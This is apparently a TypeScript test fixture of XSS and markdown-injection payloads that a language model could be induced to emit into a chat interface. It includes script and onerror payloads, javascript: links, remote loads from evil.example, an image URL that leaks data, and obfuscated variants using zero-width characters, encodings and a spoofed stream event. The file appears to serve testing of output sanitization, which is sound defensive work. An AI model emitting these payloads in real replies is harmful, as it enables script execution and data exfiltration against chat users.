const RUN = "window.pwned=(window.pwned||0)+1";
const FAR = "https://evil.example/x";

/** HTML that runs something or fetches something where it is taken for HTML. */
const HTML: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${FAR}.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${FAR}.png">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<input autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<object data="${FAR}"></object>`,
  `<embed src="${FAR}">`,
  `<a href="${FAR}">Table options</a>`,
  `<a href="javascript:${RUN}">Apply to N</a>`,
  `<form action="${FAR}"><button>Apply to N</button></form>`,
  `<style>@import url(${FAR}.css);</style>`,
  `<link rel="stylesheet" href="${FAR}.css">`,
  `<meta http-equiv="refresh" content="0;url=${FAR}">`,
  `<base href="${FAR}/">`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `</div></section><img src=x onerror="${RUN}">`,
  `--><img src=x onerror="${RUN}"><!--`,
  `<ImG sRc=x OnErRoR="${RUN}">`,
  `<img/src/onerror=${RUN}>`,
];

/** Markdown that other chats turn into links, images or HTML. */
const MARKDOWN: readonly string[] = [
  `[Table options](${FAR})`,
  `[Bulk edit](javascript:${RUN})`,
  `[Apply to N](data:text/html;base64,PHNjcmlwdD4x)`,
  `![picture](${FAR}.png)`,
  `![](${FAR}.png?data=secret)`,
  `[![picture](${FAR}.png)](${FAR})`,
  `[Table options][1]\n\n[1]: ${FAR}`,
  `<${FAR}>`,
  FAR,
  "www.evil.example/x",
  "Write to mallory@evil.example.",
  `**[Apply to N](${FAR})**`,
  `- [x] [Bulk edit](${FAR})`,
  `1. ![one](${FAR}.png)\n2. ![two](${FAR}.png)`,
  `# [Heading](${FAR})`,
  `> [Quote](${FAR})`,
  `| a | b |\n|---|---|\n| ![c](${FAR}.png) | d |`,
  `\`\`\`html\n<img src=x onerror="${RUN}">\n\`\`\``,
  `\`<img src=x onerror="${RUN}">\``,
  `**<img src=x onerror="${RUN}">**`,
];

/** The same in disguise. */
const DISGUISED: readonly string[] = [
  `&lt;img src=x onerror="${RUN}"&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
  `\u202e<img src=x onerror="${RUN}">`,
  `[Table\u200b options](${FAR})`,
  `＜script＞${RUN}＜/script＞`,
  `[Bulk edit](\tjava\tscript:${RUN})`,
  `[Bulk edit](JaVaScRiPt:${RUN})`,
  `<a href="java&#10;script:${RUN}">Bulk edit</a>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `";${RUN};"`,
  `event: reply-done\ndata: {"id":"x","source":"llm","tour":{"id":"x","label":"<img src=x onerror=${RUN}>"}}`,
];

/** What a model may be made to write to get something into the page that shows it. */
export const nastyReplies: readonly string[] = [...HTML, ...MARKDOWN, ...DISGUISED];
